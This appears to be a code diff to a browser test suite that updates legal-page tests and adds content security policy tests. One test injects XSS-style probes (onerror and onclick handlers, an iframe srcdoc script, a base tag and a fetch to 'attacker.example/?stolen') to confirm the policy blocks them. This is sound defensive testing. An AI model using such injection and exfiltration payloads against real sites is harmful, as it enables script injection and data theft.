@@ -1,10 +1,12 @@
 import type { Page } from 'playwright-core';
 import { describe, expect, test } from 'vitest';
-import { withPage } from '../../scripts/browser/browser.ts';
+import { sharedBrowser, withKeptPage } from '../../scripts/browser/browser.ts';
 import { productOfThisSuite } from '../support/fixture.ts';
-import { Person } from '../../scripts/browser/person.ts';
+import { User } from '../../scripts/browser/user.ts';
 
-/** As another server sends the document, without what ours puts in. */
+const product = productOfThisSuite();
+
+/** Removes what our server inserts, as if another server sent the document. */
 async function withoutCompany(page: Page): Promise<void> {
   await page.route('**/terms', async (route) => {
     const answer = await route.fetch();
@@ -14,11 +16,10 @@ async function withoutCompany(page: Page): Promise<void> {
 }
 
 describe('the legal pages', () => {
-  const product = productOfThisSuite();
-  const visit = (story: (visitor: Person, page: Page) => Promise<void>) =>
-    withPage((page) => story(new Person(page, product), page));
+  const visit = (story: (visitor: User, page: Page) => Promise<void>) =>
+    withKeptPage((page) => story(new User(page, product), page));
 
-  test('[FMT-03] they name law, arbitration and the mails that cannot be switched off', () =>
+  test('[FMT-03] they name law, arbitration and the emails that cannot be turned off', () =>
     visit(async (visitor, page) => {
       await visitor.opens('/terms-of-service');
       for (const words of [
@@ -38,14 +39,14 @@ describe('the legal pages', () => {
   ])('[ROUTE-10, FMT-03] %s has its date, its sections, the company and a contact', (path, headings) =>
     visit(async (visitor, page) => {
       await visitor.opens(path);
-      await visitor.sees('Last changed: November 24, 2026');
+      await visitor.sees('Last changed: November 25, 2026');
       for (const name of headings) await page.getByRole('heading', { level: 2, name }).waitFor();
       const contact = page.getByRole('heading', { name: 'Contact' }).locator('..').getByRole('link');
       expect(await contact.getAttribute('href')).toBe('mailto:smartpause@localhost.localdomain');
     }),
   );
 
-  test('[FMT-03] served by another server, they name the product alone', () =>
+  test('[FMT-03] served by another server, they name only the product', () =>
     visit(async (visitor, page) => {
       await withoutCompany(page);
       await visitor.opens('/terms');
@@ -60,4 +61,66 @@ describe('the legal pages', () => {
       await heading.waitFor();
       expect((await heading.boundingBox())?.y).toBeLessThan(200);
     }));
+});
+
+describe('the content security policy', () => {
+  test.each(['/', '/terms', '/nowhere'])(
+    '%s has no inline script, and no style without the nonce',
+    async (path) => {
+      const answer = await fetch(product.url + path);
+      const html = await answer.text();
+      const [, nonce = ''] =
+        /'nonce-([\w-]{24})'/.exec(answer.headers.get('content-security-policy') ?? '') ?? [];
+      expect(nonce).not.toBe('');
+      const scripts = [...html.matchAll(/<script\b([^>]*)>([^]*?)<\/script>/g)];
+      expect(scripts.length).toBeGreaterThan(1);
+      for (const [, attributes, code] of scripts) {
+        expect([attributes, code]).toEqual([expect.stringMatching(/ src="\/assets\//), '']);
+      }
+      const styles = [...html.matchAll(/<style\b([^>]*)>/g)].map(([, attributes = '']) => attributes);
+      for (const attributes of styles) expect(attributes).toContain(`nonce="${nonce}"`);
+      expect(html.split(nonce).length).toBeGreaterThan(1);
+      expect(html).not.toMatch(/<[^>]+\son\w+=|STYLE_NONCE|javascript:/);
+    },
+  );
+
+  test('injected markup and scripts have no effect', async () => {
+    const context = await (await sharedBrowser()).newContext();
+    try {
+      const page = await context.newPage();
+      for (const path of ['/', '/terms']) {
+        await page.goto(product.url + path);
+        await page.getByRole('contentinfo').waitFor();
+        // Each attack records what the browser allowed.
+        const done = await page.evaluate<string[]>(`(async () => {
+          const done = [];
+          // What runs in the evaluation itself may do more than the page.
+          await new Promise(requestAnimationFrame);
+          globalThis.note = (what) => done.push(what);
+          const attempt = (act) => { try { act(); } catch {} };
+          const put = (name, fields) => {
+            const element = Object.assign(document.createElement(name), fields);
+            document.body.append(element);
+            return element;
+          };
+          attempt(() => put('script', { textContent: 'note("inline script")' }));
+          attempt(() => { put('div').innerHTML = '<img src="x" onerror="note(\\'markup\\')">'; note('made markup'); });
+          attempt(() => put('button').setAttribute('onclick', 'note("handler")'));
+          attempt(() => put('iframe', { srcdoc: '<script>parent.note("frame")</script>' }));
+          attempt(() => new Function('note("code from text")')());
+          attempt(() => put('base', { href: 'https://attacker.example/' }));
+          if (!document.baseURI.startsWith(location.origin)) note('base');
+          put('style', { textContent: 'body { outline: 3px solid red !important }' });
+          if (getComputedStyle(document.body).outlineStyle === 'solid') note('style element');
+          await fetch('https://attacker.example/?stolen').then(() => note('sent'), () => undefined);
+          document.querySelectorAll('button').forEach((button) => button.hasAttribute('onclick') && button.click());
+          await new Promise(requestAnimationFrame);
+          return done;
+        })()`);
+        expect(done, path).toEqual([]);
+      }
+    } finally {
+      await context.close();
+    }
+  });
 });
